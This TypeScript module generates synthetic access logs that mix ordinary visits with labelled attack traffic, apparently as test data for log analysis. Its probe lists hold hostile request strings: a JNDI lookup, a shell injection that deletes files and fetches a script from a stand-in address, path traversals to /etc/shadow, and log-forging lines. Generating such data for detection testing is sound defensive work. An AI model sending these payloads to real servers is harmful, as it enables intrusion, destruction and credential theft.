import type { Host } from './hosts.ts'
import type { LogWords, World } from './log.ts'
import type { Episode } from './timeline.ts'

/** An access.log in the combined format of nginx, Apache and OpenBSD's httpd. */
export const accessLog: LogWords = { attackPercent: 5, attack, noise }

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']
const SECOND = 1000

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
]
const ROBOTS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
]
const ATTACKERS = [
  'Mozilla/5.0 (compatible; Nikto/2.5.0)',
  'python-requests/2.32.3',
  'curl/8.9.1',
  'Go-http-client/1.1',
  '-',
  'Mozilla/5.0 zgrab/0.x',
]
const PAGES = [
  '/',
  '/about',
  '/contact',
  '/blog/',
  '/blog/2025/hello-world',
  '/shop/item?id=17',
  '/search?q=wordpress+login',
  '/feed.xml',
  '/docs/install.html',
]
const ASSETS = ['/css/site.css', '/js/app.js', '/img/logo.svg', '/img/photo-1.webp', '/favicon.ico', '/fonts/inter.woff2']
const PROBES = [
  '/.env',
  '/.git/config',
  '/.aws/credentials',
  '/phpmyadmin/index.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)',
  '/boaform/admin/formLogin',
  '/HNAP1/',
  '/solr/admin/info/system',
  '/actuator/health',
  '/owa/auth/logon.aspx',
  '/xmlrpc.php',
  '/wp-content/plugins/wp-file-manager/readme.txt',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: attackers write it so
  '/?x=${jndi:ldap://198.51.100.7/a}',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.4/a.sh',
]
const TRAVERSALS = [
  '/../../../../etc/passwd',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/static/..%2f..%2f..%2fetc%2fpasswd',
  '/download?file=../../../../../../etc/shadow',
  '/icons/.%%32%65/.%%32%65/.%%32%65/etc/hosts',
]
const GUESSES = ['backup', 'old', 'admin', 'test', 'dev', 'sql', 'db', 'site', 'www', 'config', 'upload', 'tmp', 'new', 'api']

let stampedAt = Number.NaN
let stamp = ''

/** `10/Oct/2025:13:55:36 +0000`. */
function accessDate(at: number): string {
  if (at === stampedAt) return stamp
  const iso = new Date(at).toISOString()
  stampedAt = at
  stamp = `${iso.slice(8, 10)}/${MONTHS[Number(iso.slice(5, 7)) - 1]}/${iso.slice(0, 4)}:${iso.slice(11, 19)} +0000`
  return stamp
}

interface Answer {
  readonly method?: string
  readonly status: number
  readonly agent: string
  readonly referrer?: string
  readonly isAttack?: boolean
}

function writeRequest(
  world: World,
  host: Host,
  path: string,
  { method = 'GET', status, agent, referrer = '-', isAttack = false }: Answer,
): void {
  const bytes = status === 200 ? world.random.between(200, 60_000) : world.random.between(0, 600)
  world.write(
    `${host.address()} - - [${accessDate(world.now)}] "${method} ${path} HTTP/1.1" ${status} ${bytes} "${referrer}" "${agent}"`,
    isAttack,
  )
}

function attack(world: World): Episode {
  const { random, hosts } = world
  const kind = random.below(100)
  if (kind < 35) return wpLogin(world, hosts.attacker(), random.between(1, 15))
  if (kind < 60) return probes(world, hosts.attacker(), PROBES, random.between(1, 8))
  if (kind < 75) return probes(world, hosts.attacker(), TRAVERSALS, random.between(1, 4))
  if (kind < 80) return probes(world, hosts.slowAttacker(), PROBES, random.between(1, 3))
  if (kind < 90) return notFoundStorm(world, hosts.attacker(), random.between(5, 60))
  return framing(world, hosts.attacker())
}

function* wpLogin(world: World, host: Host, tries: number): Episode {
  const agent = world.random.pick([...BROWSERS, ...ATTACKERS])
  writeRequest(world, host, '/wp-login.php', { status: 200, agent, isAttack: true })
  for (let i = 0; i < tries; i++) {
    yield world.random.between(1, 20) * SECOND
    writeRequest(world, host, '/wp-login.php', { method: 'POST', status: 200, agent, isAttack: true })
  }
}

function* probes(world: World, host: Host, paths: readonly string[], count: number): Episode {
  const agent = world.random.pick(ATTACKERS)
  for (let i = 0; i < count; i++) {
    writeRequest(world, host, world.random.pick(paths), {
      status: world.random.pick([400, 403, 404, 404]),
      agent,
      isAttack: true,
    })
    yield world.random.between(0, 5) * SECOND
  }
}

function* notFoundStorm(world: World, host: Host, count: number): Episode {
  const { random } = world
  const agent = random.pick(ATTACKERS)
  for (let i = 0; i < count; i++) {
    const path = `/${random.pick(GUESSES)}${random.pick(['', '/', '.zip', '.tar.gz', '.sql', '.php', '.bak'])}`
    writeRequest(world, host, path, { status: 404, agent, isAttack: true })
    yield random.between(0, 2) * SECOND
  }
}

/** Addresses of others where a careless pattern might look for the client's: in the path, the referrer, the agent. */
function* framing(world: World, host: Host): Episode {
  const victim = world.hosts.victim()
  const line = `${victim} - - [01/Jan/2025:00:00:00 +0000] \\"GET /wp-login.php HTTP/1.1\\" 200 1`
  const agent = world.random.pick([line, `Mozilla/5.0 (compatible; ${victim})`])
  writeRequest(world, host, `/%0a${victim}%20-%20-%20/wp-login.php`, { status: 404, agent, referrer: line, isAttack: true })
  yield SECOND
  writeRequest(world, host, '/', { status: 200, agent: line, isAttack: true })
}

function noise(world: World): Episode {
  const { random, hosts } = world
  return random.percent(85) ? visit(world, hosts.visitor()) : crawl(world, hosts.visitor())
}

/** A person looks at some pages, each with what belongs to it. */
function* visit(world: World, host: Host): Episode {
  const { random } = world
  const agent = random.pick(BROWSERS)
  let referrer = random.percent(50) ? '-' : 'https://www.google.com/'
  for (let pages = random.between(1, 4); pages > 0; pages--) {
    const page = random.pick(PAGES)
    writeRequest(world, host, page, { status: random.percent(97) ? 200 : 404, agent, referrer })
    referrer = `https://www.example.org${page}`
    for (let assets = random.between(0, 6); assets > 0; assets--) {
      writeRequest(world, host, random.pick(ASSETS), { status: random.percent(70) ? 200 : 304, agent, referrer })
    }
    yield random.between(2, 60) * SECOND
  }
}

function* crawl(world: World, host: Host): Episode {
  const agent = world.random.pick(ROBOTS)
  for (let pages = world.random.between(1, 5); pages > 0; pages--) {
    writeRequest(world, host, world.random.pick(PAGES), { status: 200, agent })
    yield world.random.between(1, 10) * SECOND
  }
}
